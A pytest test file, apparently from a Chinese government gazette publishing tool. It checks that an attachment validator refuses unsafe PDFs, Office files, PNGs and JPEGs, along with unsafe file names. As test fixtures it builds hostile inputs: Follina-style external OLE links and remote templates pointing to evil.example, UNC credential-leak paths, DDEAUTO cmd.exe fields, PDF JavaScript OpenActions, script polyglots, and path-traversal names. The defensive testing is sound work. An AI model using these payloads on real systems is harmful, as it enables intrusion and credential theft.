                                                                 b'[<!ENTITY t "\xe9\x80\x9a\xe7\x9f\xa5">]>'
                                                                 + XMP_SIGNED % b"&t;")}), "改写了 XMP 元数据（对象 6）"),
    (_page_in_object_stream(0), "把对象 3 指向了对象流中的另一个对象"),              # the xref's index, not the header's
], ids=["page-content-replaced", "content-stream-rewritten", "content-stream-as-signature", "page-resources",
        "font-rewritten", "annotation-removed", "annotation-changed", "freetext-added", "freetext-untyped",
        "freetext-on-no-page", "text-field-added", "xref-frees-content", "xref-stream-frees-content", "catalog-pages",
        "need-appearances", "field-dropped", "edited-then-signed", "prev-elsewhere", "not-chained", "dangling-filled",
        "dss-hijack", "acroform-hijack", "info-hijack", "info-title", "contents-array", "xref-alias", "generation",
        "xref-generation", "object-stream", "form-da", "xmp-title", "xmp-entity", "object-stream-index"])
def test_a_signing_revision_that_changes_more_is_refused(data, why):
    found = filetypes.problem(".pdf", data)
    assert why in found and "请用“另存为”或“打印为 PDF”生成一个新的 PDF" in found


RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _with_relationship(main_part: str, rels: str, kind: str, target: str) -> bytes:
    """An Office file whose part ``rels`` relates (TargetMode External) to ``target`` as ``kind``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(main_part, "<x/>")
        archive.writestr(rels, '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                               f'relationships"><Relationship Id="rId9" Type="{RELS}{kind}" Target="{target}" '
                               'TargetMode="&#69;xternal"/></Relationships>')
    return buffer.getvalue()


@pytest.mark.parametrize("suffix,data", [
    # Word fetches the remote template on opening, and runs its macros: remote template injection
    (".docx", _with_relationship("word/document.xml", "word/_rels/settings.xml.rels", "attachedTemplate",
                                 "https://evil.example/t.dotm")),
    # CVE-2022-30190 (Follina): an external OLE object, no embedded part to see
    (".docx", _with_relationship("word/document.xml", "word/_rels/document.xml.rels", "oleObject",
                                 "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html")),
    (".docx", _with_relationship("word/document.xml", "word/_rels/document.xml.rels", "image", "https://evil.example/p.png")),
    (".xlsx", _with_relationship("xl/workbook.xml", "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath",
                                 "https://evil.example/book.xlsx")),
    # a UNC path: Word connects to the host (and offers it the reader's Windows credentials)
    (".docx", _with_relationship("word/document.xml", "word/_rels/settings.xml.rels", "attachedTemplate",
                                 "file://evil.example/share/t.dotm")),
    (".docx", _with_relationship("word/document.xml", "word/_rels/settings.xml.rels", "attachedTemplate",
                                 "\\\\evil.example\\share\\t.dotm")),
])
def test_an_office_file_that_fetches_from_elsewhere_when_opened_is_refused(suffix, data):
    assert "外部资源" in filetypes.problem(suffix, data)


@pytest.mark.parametrize("kind,target", [("hyperlink", "https://www.gov.cn/"),
                                         ("attachedTemplate", "file:///C:/Users/x/AppData/Roaming/Microsoft/Templates/Normal.dotm"),
                                         ("attachedTemplate", "C:\\公文模板\\红头.dotx")])
def test_an_office_files_hyperlink_or_template_of_its_authors_disk_passes(kind, target):
    data = _with_relationship("word/document.xml", "word/_rels/settings.xml.rels", kind, target)
    assert filetypes.problem(".docx", data) is None


def _office(main_part: str, **parts: str) -> bytes:
    """An Office file: ``main_part`` and more parts (a keyword's underscores are the path's slashes)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        named = {name.replace("__", "/").replace("_xml", ".xml"): text for name, text in parts.items()}
        archive.writestr(main_part, named.pop(main_part, "<x/>"))
        for name, text in named.items():
            archive.writestr(name, text)
    return buffer.getvalue()


WORD = ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>{}</w:p>'
        "</w:body></w:document>")


# A 部分公开 document's attachment is published as 主动公开 once its withheld part is taken out: taken out in Word with
# revisions on, hidden, or noted in a comment, or a sheet hidden, it is still in the file, for anyone to read out.
@pytest.mark.parametrize("suffix,data", [
    (".docx", _office("word/document.xml", word__document_xml=WORD.format(
        '<w:del w:id="1" w:author="x"><w:r><w:delText>业主张三 0510-0000001</w:delText></w:r></w:del>'))),
    (".docx", _office("word/document.xml", word__document_xml=WORD.format(
        "<w:r><w:rPr><w:vanish/></w:rPr><w:t>业主张三</w:t></w:r>"))),
    (".docx", _office("word/document.xml", word__footer2_xml=WORD.format("<w:moveFrom><w:r><w:t>x</w:t></w:r></w:moveFrom>"))),
    (".docx", _office("word/document.xml", word__document_xml=WORD.format(  # a deleted field's code: its text
        '<w:del w:id="2"><w:r><w:delInstrText>HYPERLINK "https://x.example/张三"</w:delInstrText></w:r></w:del>'))),
    (".docx", _office("word/document.xml", word__document_xml=WORD.format(  # a table row deleted: its text kept in w:t
        '<w:tbl><w:tr><w:trPr><w:del w:id="3" w:author="x"/></w:trPr><w:tc><w:p><w:r><w:t>张三</w:t></w:r></w:p></w:tc></w:tr></w:tbl>'))),
    (".docx", _office("word/document.xml", word__document_xml=WORD.format("<x:r><x:rPr><x:vanish/></x:rPr><x:t>张三</x:t></x:r>"))),
    (".docx", _office("word/document.xml", word__comments_xml="<w:comments/>")),
    (".xlsx", _office("xl/workbook.xml", xl__workbook_xml='<workbook><sheets><sheet name="名单" sheetId="2" '
                                                          'state="veryHidden"/></sheets></workbook>')),
    (".xlsx", _office("xl/workbook.xml", xl__comments1_xml="<comments/>")),
    # a comments part of another name: Word and Excel find it by its relationship
    (".docx", _office("word/document.xml", word__notes_xml='<w:comments><w:comment w:id="0"><w:p><w:r><w:t>张三</w:t></w:r>'
                                                           "</w:p></w:comment></w:comments>")),
    (".xlsx", _office("xl/workbook.xml", xl__notes_xml='<comments><commentList><comment ref="A1"><text><t>张三</t></text>'
                                                      "</comment></commentList></comments>")),
])
def test_an_office_file_holding_text_out_of_view_is_refused(suffix, data):
    assert "仍在文件中" in filetypes.problem(suffix, data)


SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}<sheetData>{}</sheetData></worksheet>'


# A row or column hidden keeps its cells in the file as a hidden sheet does: by hand, by a filter or a collapsed outline,
# or sized to nothing; and written as Excel still reads it (true, any prefix, single quotes, spaces, a ">" in a value)
@pytest.mark.parametrize("cols,rows", [
    ("", '<row r="2" spans="1:3" hidden="1"><c r="A2" t="inlineStr"><is><t>张三</t></is></c></row>'),
    ('<cols><col min="2" max="2" width="9" hidden="true" customWidth="1"/></cols>', ""),
    ("", "<x:row r='2' hidden = ' 1 '/>"),
    ("", '<row r="2" x="a>b" hidden="1"/>'),
    ("", '<row r="2" ht="0" customHeight="1"/>'),
    ('<cols><col min="2" max="2" width="0.0"/></cols>', ""),
    ('<sheetFormatPr defaultRowHeight="15" zeroHeight="1"/>', '<row r="2"><c r="A2"/></row>'),
], ids=["row", "col-true", "prefix-quote-space", "gt-in-value", "row-height-0", "col-width-0", "zeroHeight"])
def test_a_workbooks_hidden_rows_and_columns_are_refused(cols, rows):
    data = _office("xl/workbook.xml", xl__worksheets__sheet1_xml=SHEET.format(cols, rows))
    assert filetypes.problem(".xlsx", data) == "Office 文件含有隐藏的行或列：删去或隐藏的文字仍在文件中，发布后任何人都能读出"


def test_a_workbooks_rows_and_columns_in_view_pass():
    cols = '<cols><col min="1" max="2" width="10.5" hidden="0" customWidth="1"/></cols>'
    rows = '<row r="1" ht="20.25" hidden="false"><c r="A1"/></row><row r="2" ht="0.5"/>'
    moved = _office("xl/workbook.xml", xl__worksheets__sheet1_xml=SHEET.format(cols, rows),
                    xl__workbook_xml='<workbook><definedNames><definedName name="_xlnm._FilterDatabase" localSheetId="0" '
                                     'hidden="1">Sheet1!$A$1:$B$2</definedName></definedNames></workbook>')
    assert filetypes.problem(".xlsx", moved) is None


def test_a_hidden_row_in_a_worksheet_part_of_another_name_is_refused():
    """Excel finds a worksheet by the workbook's relationship to it, not by its name."""
    data = _office("xl/workbook.xml", sheets__s_xml=SHEET.format("", '<row r="2" hidden="1"/>'))
    assert "隐藏的行或列" in filetypes.problem(".xlsx", data)


@pytest.mark.parametrize("name", ["xl/workbook.xml", "book/main.xml"])  # the workbook found by its relationship
def test_a_hidden_sheet_written_otherwise_is_refused(name):
    workbook = "<x:workbook><x:sheets><x:sheet name='名单' x='a>b' state = 'hidden'/></x:sheets></x:workbook>"
    data = _office("xl/workbook.xml", **{name.replace("/", "__").replace(".xml", "_xml"): workbook})
    assert "隐藏的工作表" in filetypes.problem(".xlsx", data)


def _field(*runs: str) -> str:
    """A Word field whose code is written over ``runs`` (Word splits a code over runs as it likes)."""
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'  # a run that is a field itself: a field inside the code
            + "".join(run if run.startswith("<w:r>") else f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>'
                      for run in runs)
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


# What Word runs or fetches by itself with no relationship to see: a DDE field (a prompt away from a command line), a
# picture or text a field includes from another host when fields are updated, and a workbook's DDE link.
@pytest.mark.parametrize("suffix,data", [
    (".docx", _office("word/document.xml", word__document_xml=WORD.format(_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", ' "/k calc"')))),
    (".docx", _office("word/document.xml", word__document_xml=WORD.format(_field("DD", "E cmd.exe ", '"/c calc"')))),
    (".docx", _office("word/document.xml", word__header1_xml=WORD.format(_field('INCLUDEPICTURE "https://evil.example/p.png" \\d')))),
    (".docx", _office("word/document.xml", word__document_xml=WORD.format(
        '<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\evil.example\\share\\t.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>'))),
    (".docx", _office("word/document.xml", word__document_xml=WORD.format(_field("link Excel.Sheet.12 ", '"//evil.example/b.xlsx"')))),
    # the XML written otherwise than Word writes it, as Word still reads it: another prefix, CDATA, single quotes
    (".docx", _office("word/document.xml", word__document_xml=WORD.format(_field("DDEAUTO cmd.exe").replace("w:", "ns0:")))),
    (".docx", _office("word/document.xml", word__document_xml=WORD.format(_field("<![CDATA[DDEAUTO cmd.exe]]>")))),
    (".docx", _office("word/document.xml", word__document_xml=WORD.format(
        "<w:fldSimple w:instr='DDE cmd.exe \"/c calc\"'><w:r><w:t>x</w:t></w:r></w:fldSimple>"))),
    # the file spelled by a field inside the code (QUOTE 104 116 … gives any text when fields are updated)
    (".docx", _office("word/document.xml", word__document_xml=WORD.format(
        _field('INCLUDEPICTURE "', _field("QUOTE 104 116 116 112"), '" \\\\d')))),
    (".xlsx", _office("xl/workbook.xml", xl__workbook_xml="<workbook/>", xl__externalLinks__externalLink1_xml=(
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'))),
])
def test_an_office_file_with_a_field_or_link_that_runs_or_fetches_is_refused(suffix, data):
    assert "域代码或链接" in filetypes.problem(suffix, data)


@pytest.mark.parametrize("code", ['PAGE \\* MERGEFORMAT', 'HYPERLINK "https://www.gov.cn/"', "TOC \\o &quot;1-3&quot;",
                                  'INCLUDEPICTURE "C:\\\\图片\\\\章.png" \\d', 'DATE \\@ "yyyy年M月d日"'])
def test_an_office_files_ordinary_fields_pass(code):
    data = _office("word/document.xml", word__document_xml=WORD.format(_field(code)))
    assert filetypes.problem(".docx", data) is None


def test_an_office_file_with_its_text_in_view_passes():
    assert filetypes.problem(".docx", _office("word/document.xml", word__document_xml=WORD.format("<w:r><w:t>正文</w:t></w:r>"))) is None
    workbook = '<workbook><sheets><sheet name="表" sheetId="1" state="visible"/></sheets></workbook>'
    assert filetypes.problem(".xlsx", _office("xl/workbook.xml", xl__workbook_xml=workbook)) is None


STYLES_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"


# Word reads more parts than word/document.xml: the glossary's building blocks, a part of any name the package relates
# as the document (beside a decoy word/document.xml), and a file imported whole (altChunk) that it shows as the text.
@pytest.mark.parametrize("data,why", [
    (_office("word/document.xml", word__glossary__document_xml=WORD.format("<w:r><w:rPr><w:vanish/></w:rPr><w:t>张三</w:t></w:r>")),
     "隐藏文字"),
    (_office("word/document.xml", word__glossary__document_xml=WORD.format(_field("DDEAUTO cmd.exe"))), "域代码"),
    (_office("word/document.xml", x__main_xml=WORD.format('<w:del><w:r><w:delText>张三</w:delText></w:r></w:del>')),
     "修订记录"),
    (_office("word/document.xml", word__document_xml=WORD.format('<w:altChunk r:id="rId9"/>')), "altChunk"),
    (_office("word/document.xml", word__header1_xml=WORD.format('<ns0:altChunk ns1:id="rId9"/>')), "altChunk"),
], ids=["glossary-hidden", "glossary-field", "document-of-another-name", "altChunk", "altChunk-prefix"])
def test_a_word_files_other_parts_are_read_too(data, why):
    assert why in filetypes.problem(".docx", data)


def test_a_word_files_styles_may_hide_and_a_part_named_so_is_still_read():
    hidden_style = '<w:styles><w:style w:styleId="z-TopofForm"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>'
    types = (f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/%73tyles.xml" '
             f'ContentType="{STYLES_TYPE}"/></Types>')
    declared = _rewrite(_office("word/document.xml", word__styles_xml=hidden_style), "[Content_Types].xml", types)
    assert filetypes.problem(".docx", declared) is None
    undeclared = _office("word/document.xml", word__styles_xml=hidden_style)
    assert "隐藏文字" in filetypes.problem(".docx", undeclared)


def _rewrite(data: bytes, name: str, text: str) -> bytes:
    """``data``, an Office file, with its part ``name`` holding ``text``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w") as archive:
        for entry in source.infolist():
            archive.writestr(entry.filename, text if entry.filename == name else source.read(entry))
    return buffer.getvalue()

def test_an_image_codec_on_an_image_stream_passes():
    image = b"7 0 obj\n<< /Type /XObject /Subtype /Image /Filter /DCTDecode /Length 4 >>\nstream\nabcd\nendstream\nendobj\n"
    assert filetypes.problem(".pdf", pdf().replace(b"xref", image + b"xref", 1)) is None


def _png_with(*chunks: bytes) -> bytes:
    """The sample PNG with ``chunks`` between its header and its picture."""
    return png()[:33] + b"".join(chunks) + png()[33:]


# A picture's metadata holds what its reader does not see: the author, the place it was taken, a comment — the
# withheld text of the document it was made from — or, in an APNG, another picture.
@pytest.mark.parametrize("chunk", [
    png_chunk(b"tEXt", "Comment\x00业主张三 0510-0000001".encode("latin-1", "replace")),
    png_chunk(b"zTXt", b"Author\x00\x00" + zlib.compress("张三".encode())),
    png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00<x:xmpmeta/>"),
    png_chunk(b"eXIf", b"MM\x00*\x00\x00\x00\x08\x00\x00"),
    png_chunk(b"acTL", b"\x00\x00\x00\x02\x00\x00\x00\x00"),       # an APNG: its frames are other pictures
    png_chunk(b"prVt", b"anything"),                                     # a private chunk: unknown is refused
    png_chunk(b"TEXT", b"Comment\x00x"),                                # another case is another chunk, refused as well
], ids=["tEXt", "zTXt", "iTXt", "eXIf", "acTL", "private", "TEXT"])
def test_a_png_with_metadata_or_another_picture_is_refused(chunk):
    assert "去掉元数据" in filetypes.problem(".png", _png_with(chunk))


def test_a_pngs_colour_and_size_chunks_pass():
    hints = (png_chunk(b"gAMA", (45455).to_bytes(4, "big")) + png_chunk(b"sRGB", b"\x00")
             + png_chunk(b"pHYs", b"\x00\x00\x0b\x13\x00\x00\x0b\x13\x01") + png_chunk(b"tIME", b"\x07\xea\x0c\x05\x07\x00\x00"))
    assert filetypes.problem(".png", _png_with(hints)) is None


def _segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + (len(body) + 2).to_bytes(2, "big") + body


def _jpeg_with(before_frame: bytes = b"", after_frame: bytes = b"", after_scan: bytes = b"", end: bytes = b"") -> bytes:
    """The sample JPEG with segments before and after its frame, a scan (its data holding a stuffed FF 00 and a restart
    marker) and segments after it, then ``end`` after its end."""
    sample = jpeg()
    frame_at = sample.index(b"\xff\xc0")
    scan = _segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x12\xff\x00\x34\xff\xd0\x56"
    return sample[:frame_at] + before_frame + sample[frame_at:-2] + after_frame + scan + after_scan + b"\xff\xd9" + end


EXIF = _segment(0xE1, b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x00")


# Exif holds the place, the camera and its owner, and a thumbnail of the picture as it was before it was redacted.
@pytest.mark.parametrize("data", [
    _jpeg_with(EXIF),
    _jpeg_with(_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta/>")),          # XMP
    _jpeg_with(_segment(0xFE, "业主张三 0510-0000001".encode())),                          # a comment
    _jpeg_with(_segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04")),                       # IPTC
    _jpeg_with(_segment(0xE2, b"MPF\x00II*\x00")),                                       # a second picture's index
    _jpeg_with(_segment(0xE2, b"icc_profile\x00")),                                       # not the ICC profile's name
    _jpeg_with(_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x01\x01\x00\x00\x00")),  # JFIF's thumbnail
    _jpeg_with(_segment(0xE0, b"JFXX\x00\x10")),                                         # JFIF's extension: a thumbnail
    _jpeg_with(_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + "张三".encode())),  # after JFIF's fields
    _jpeg_with(_segment(0xEE, b"Adobe\x00\x64\x00\x00\x00\x00\x01" + "张三".encode())),          # after Adobe's
    _jpeg_with(after_frame=EXIF),                           # after the frame: the scan stopped at the first frame
    _jpeg_with(after_scan=_segment(0xFE, b"x")),            # between a progressive picture's scans
], ids=["Exif", "XMP", "COM", "IPTC", "MPF", "icc", "JFIF-thumbnail", "JFXX", "after-JFIF", "after-Adobe", "after-frame",
    "after-scan"])
def test_a_jpeg_with_metadata_is_refused(data):
    assert "数据段" in (why := filetypes.problem(".jpg", data)) and why.endswith("去掉元数据后再附上")


def test_a_second_picture_after_a_jpegs_end_is_refused():
    """It ends as a JPEG does, so only reading the first to its end finds it."""
    assert filetypes.problem(".jpg", _jpeg_with(end=jpeg())) == "JPEG 图片不完整，或结尾之后还有其他数据"


def test_a_jpegs_tables_scans_icc_profile_and_adobe_segment_pass():
    data = _jpeg_with(_segment(0xE2, b"ICC_PROFILE\x00\x01\x01") + _segment(0xEE, b"Adobe\x00\x64\x00\x00\x00\x00\x01")
                      + _segment(0xDB, b"\x00" + bytes(64)), _segment(0xC4, b"\x00" + bytes(16)), end=b"\x00\x00")
    assert filetypes.problem(".jpg", data) is None


@pytest.mark.parametrize("suffix,data", [
    (".pdf", b"<html><script>alert(1)</script></html>"),                                  # HTML named .pdf
    (".pdf", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    (".pdf", b"  %PDF-1.4\n<script>"),                                                     # header not at the start
    (".pdf", pdf()[:-8]),                                                                  # truncated: no %%EOF
    (".pdf", pdf(extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ")),          # script in the catalogue
    (".pdf", pdf(extra=b"/OpenAction << /S /J#61vaScript /J#53 (x) >> ")),                # hidden behind #xx escapes
    (".pdf", pdf(extra=b"/OpenAction << /S /Launch /F (cmd.exe) >> ")),
    (".pdf", pdf(extra=b"/Names << /EmbeddedFiles 9 0 R >> ")),
    (".pdf", _flate_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")),           # inside a compressed stream
    (".png", pdf()),                                                                       # a PDF named .png
    (".png", png() + b"<html><script>alert(1)</script>"),                                  # polyglot: bytes after IEND
    (".png", png()[:40] + b"\x00" + png()[41:]),                                           # a corrupt chunk
    (".png", b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", (100000).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00")
     + png_chunk(b"IEND", b"")),                                                           # a decompression bomb's size
    (".jpg", b"<svg onload=alert(1)>"),
    (".jpg", jpeg() + b"<script>alert(1)</script>"),
    (".xlsx", ooxml("xl/workbook.xml", "xl/vbaProject.bin")),                              # macros
    (".xlsx", ooxml("xl/workbook.xml", "xl/m.dat",
                    types='<Override PartName="/xl/m.dat" ContentType="application/vnd.ms-office.vbaProject"/>')),
    (".xlsx", ooxml("word/document.xml")),                                                 # a .docx named .xlsx
    (".docx", b"PK\x03\x04 not a zip"),
    (".docx", pdf()),
])
def test_a_file_that_is_not_what_its_name_says_or_carries_script_is_refused(suffix, data):
    assert filetypes.problem(suffix, data)


def test_svg_and_html_are_no_allowed_type():
    assert not {".svg", ".svgz", ".html", ".htm", ".xml", ".js"} & set(filetypes.TYPES)


# ---- declared, checked, published --------------------------------------------------------------------

def test_a_declared_attachment_is_loaded_with_its_size_and_hash(repo: Repo):
    attached(repo)
    checked = repo.check()
    assert [str(d) for d in checked.diagnostics if d.is_error] == []
    (doc,) = checked.archive.documents
    (a,) = doc.attachments
    assert (a.name, a.title, a.source, a.size) == ("附件1.pdf", "附件1：考核办法", PDF_PATH, len(pdf()))
    assert urls.attachment_files(checked.archive.public(), checked.settings.issuer_codes) == {
        "doc/xzbf/2018/68/files/附件1.pdf": a}


def test_chinese_key_names_are_accepted(repo: Repo):
    repo.write("gazette/2018/06/xzbf-68/附件1.pdf", pdf())
    declare(repo, "  - file: xzbf-68/附件1.pdf\n    title: 附件1\n", key="附件")
    assert errors(repo) == [] and repo.check().archive.documents[0].attachments


@pytest.mark.parametrize("file,why", [
    ("xzbf-68/missing.pdf", "不存在"),
    ("../06/xzbf-68/附件1.pdf", "不能含 .."),
    ("/etc/passwd.pdf", "绝对路径"),
    ("xzbf-68\\附件1.pdf", "反斜杠"),
    ("xzbf-68/.hidden.pdf", "只能含汉字"),
    ("xzbf-68/附件 1.pdf", "只能含汉字"),
    ("xzbf-68/附件1.PDF", "类型不允许"),
    ("xzbf-68/evil.svg", "类型不允许"),
    ("xzbf-68/evil.html", "类型不允许"),
    ("xzbf-68/附件1.pdf.exe", "类型不允许"),
    ("xzbf-68/a\u200b.pdf", "只能含汉字"),
    ("xzbf-68\u4e3f附件1.pdf", "只能含汉字"),  # 丿 looks like a slash
    ("xzbf-68/\u4e28附件1.pdf", "只能含汉字"),  # 丨 like a pipe
])
def test_unsafe_or_missing_files_are_refused(repo: Repo, file: str, why: str):
    repo.write(PDF_PATH, pdf())
    declare(repo, f"  - file: '{file}'\n    title: 附件1\n")
    found = errors(repo)
    assert any(why in e for e in found), found
    assert not repo.check().archive.documents[0].attachments


def test_a_bidi_control_in_a_file_name_is_refused(repo: Repo):
    repo.write(PDF_PATH, pdf())
    declare(repo, "  - file: 'xzbf-68/\u202efdp.pdf'\n    title: 附件1\n")
    checked = repo.check()
    assert not checked.ok and not urls.attachment_files(checked.archive.public(), checked.settings.issuer_codes)


def test_a_title_is_required_and_plain(repo: Repo):
    repo.write(PDF_PATH, pdf())
    declare(repo, "  - file: xzbf-68/附件1.pdf\n  - file: xzbf-68/附件1.pdf\n    title: <b>附件</b>\n")
    found = errors(repo)
    assert len(found) == 2 and "缺少 title" in found[0] and "不含 < >" in found[1]


def test_an_interpretation_image_needs_alt_text_and_an_image_type(repo: Repo):
    repo.write("interpretations/jd/图1.png", png())
    repo.write("interpretations/jd/说明.pdf", pdf())
    declare(repo, "  - file: jd/图1.png\n  - file: jd/说明.pdf\n    title: 说明\n", path=JD, key="images")
    found = errors(repo)
    assert "images 第 1 项 缺少 title（读者看到的名称，也是图片的替代文字）" in found[0]
    assert "类型不允许，只能是 .png .jpg .jpeg" in found[1]


def test_a_real_type_is_read_from_the_bytes(repo: Repo):
    attached(repo, b"<html><script>alert(1)</script></html>")
    (found,) = errors(repo)
    assert f"{PDF_PATH} 不能发布：内容不是 PDF" in found


def test_a_link_on_the_path_is_refused(repo: Repo, tmp_path):
    outside = tmp_path / "secret.pdf"
    outside.write_bytes(pdf())
    os.makedirs(repo.path / "gazette/2018/06/xzbf-68")
    os.symlink(outside, repo.path / PDF_PATH)
    declare(repo, "  - file: xzbf-68/附件1.pdf\n    title: 附件1\n")
    assert repo.check().archive.documents == [] or not repo.check().archive.documents[0].attachments
    assert any("符号链接" in m or "链接" in m for m in repo.messages())


def test_a_linked_folder_inside_the_repository_is_refused_too(repo: Repo):
    repo.write("gazette/2018/elsewhere/附件1.pdf", pdf())
    os.symlink(repo.path / "gazette/2018/elsewhere", repo.path / "gazette/2018/06/xzbf-68")
    declare(repo, "  - file: xzbf-68/附件1.pdf\n    title: 附件1\n")
    assert any("是链接或不是普通文件" in e for e in errors(repo))


def test_two_files_of_one_name_would_share_a_url(repo: Repo):
    repo.write(PDF_PATH, pdf())
    repo.write("gazette/2018/06/other/附件1.pdf", pdf("other"))
    repo.write("gazette/2018/06/other/A.pdf", pdf("upper"))
    repo.write("gazette/2018/06/other/a.pdf", pdf("lower"))
    declare(repo, "  - {file: xzbf-68/附件1.pdf, title: 甲}\n  - {file: other/附件1.pdf, title: 乙}\n"
                  "  - {file: other/A.pdf, title: 丙}\n  - {file: other/a.pdf, title: 丁}\n")
    assert [e.split("的文件名 ")[1].split(" ")[0] for e in errors(repo) if "重名" in e] == ["附件1.pdf", "a.pdf"]


def test_size_limits_per_file_and_per_page(repo: Repo, monkeypatch):
    monkeypatch.setattr(attachments, "MAX_FILE", len(pdf()) + 10)
    monkeypatch.setattr(attachments, "MAX_PAGE", len(pdf()) * 2 - 1)
    repo.write("gazette/2018/06/xzbf-68/big.pdf", pdf("x" * 60))
    repo.write("gazette/2018/06/xzbf-68/a.pdf", pdf())
    repo.write("gazette/2018/06/xzbf-68/b.pdf", pdf())
    declare(repo, "  - {file: xzbf-68/big.pdf, title: 大}\n  - {file: xzbf-68/a.pdf, title: 甲}\n"
                  "  - {file: xzbf-68/b.pdf, title: 乙}\n")
    found = errors(repo)
    assert len(found) == 2 and any("big.pdf 有 635 B，超过每个文件" in e for e in found) and any("超过每个页面" in e for e in found)


def test_an_undeclared_file_beside_the_content_is_an_error(repo: Repo):
    repo.write("gazette/2018/06/附件2.pdf", pdf())
    repo.write("interpretations/图.png", png())
    assert errors(repo) == [
        "gazette/2018/06/附件2.pdf: 这个文件没有被任何文件的 attachments 或解读的 images 列出，不会发布 — "
        "在所属页面的 front matter 中列出它（attachments: [{file: xzbf-68/附件1.pdf, title: 附件1：……办法}]），或删除它",
        "interpretations/图.png: 这个文件没有被任何文件的 attachments 或解读的 images 列出，不会发布 — "
        "在所属页面的 front matter 中列出它（images: [{file: xzbf-2018-75-tj/图1.png, title: 图1：……流程（图片的文字说明）}]），"
        "或删除它"]


@pytest.mark.parametrize("on_disk, file, hint", [
    ("xzbf-68/附件1.PDF", "xzbf-68/附件1.pdf", "文件名的大小写不同：把 gazette/2018/06/xzbf-68/附件1.PDF 改名为 附件1.pdf"),
    ("xzbf-68/附件1.pdf", "附件1.pdf", "是否指 gazette/2018/06/xzbf-68/附件1.pdf？把 file 改为 xzbf-68/附件1.pdf"),
    ("xzbf-68/附件1.pdf", "xzbf-69/附件1.pdf", "是否指 gazette/2018/06/xzbf-68/附件1.pdf？把 file 改为 xzbf-68/附件1.pdf"),
])
def test_a_missing_attachment_names_the_file_the_editor_may_have_meant(repo: Repo, on_disk, file, hint):
    repo.write(f"gazette/2018/06/{on_disk}", pdf())
    declare(repo, f"  - file: {file}\n    title: 附件1\n")
    assert errors(repo)[0] == f"{DOC}:11: attachments 第 1 项 的文件 gazette/2018/06/{file} 不存在 — {hint}"


def test_the_files_of_a_page_whose_front_matter_cannot_be_read_are_not_told_unlisted(repo: Repo):
    """They are listed, on lines of their own: the page's own error says what to fix."""
    attached(repo)
    repo.replace(DOC, "issuer: ", "issuer：")
    assert [d.path for d in repo.check().diagnostics] == [DOC]


@pytest.mark.parametrize("name, meant", [("xzbf-68.MD", "xzbf-68.md"), ("xzbf-68.md.txt", "xzbf-68.md"),
                                         ("xzbf-68.markdown", "xzbf-68.md"), ("xzbf-68.txt", "xzbf-68.md")])
def test_a_page_saved_under_another_extension_is_not_told_an_unlisted_attachment(repo: Repo, name, meant):
    (repo.path / DOC).rename(repo.path / "gazette/2018/06" / name)
    (repo.path / JD).unlink()
    assert errors(repo) == [f"gazette/2018/06/{name}: 页面文件的扩展名应为 .md（小写），这个文件不会被读取 — 把它改名为 {meant}"]


@pytest.mark.parametrize("name", ["xzbf-68.md ", "xzbf-68.md\u3000", "xzbf-68.md\xa0", "xzbf-68.MD  "])
def test_a_page_named_with_spaces_after_it_is_told_so(repo: Repo, name):
    """Not as an attachment to list in a page's front matter: the space is what is wrong, unseen in most listings."""
    (repo.path / DOC).rename(repo.path / "gazette/2018/06" / name)
    (repo.path / JD).unlink()
    assert errors(repo) == [f"gazette/2018/06/{name}: 页面文件的文件名末尾有空格，这个文件不会被读取 — 把它改名为 xzbf-68.md"]


@pytest.mark.parametrize("name", ["Thumbs.db", "desktop.ini", "~$xzbf-68.docx", "~WRL0001.tmp"])
def test_a_file_windows_or_word_left_behind_is_named_as_such(repo: Repo, name):
    """Not as an attachment to list in a page's front matter."""
    repo.write(f"gazette/2018/06/{name}", b"\x00")
    assert errors(repo) == [f"gazette/2018/06/{name}: 这是 Windows 或 Word 自动生成的文件，不是附件 — "
                            "删除它（可在 .gitignore 中加入 Thumbs.db、desktop.ini、~$*、~*.tmp，以免再次提交）"]


def test_a_malformed_list_and_unknown_keys(repo: Repo):
    declare(repo, "  file: x.pdf\n")
    assert any("attachments 应为列表" in e for e in errors(repo))
    repo.replace(DOC, "  file: x.pdf\n", "  - {file: xzbf-68/附件1.pdf, title: 甲, url: https://evil/}\n")
    repo.write(PDF_PATH, pdf())
    assert any("未知的键 url" in e for e in errors(repo))


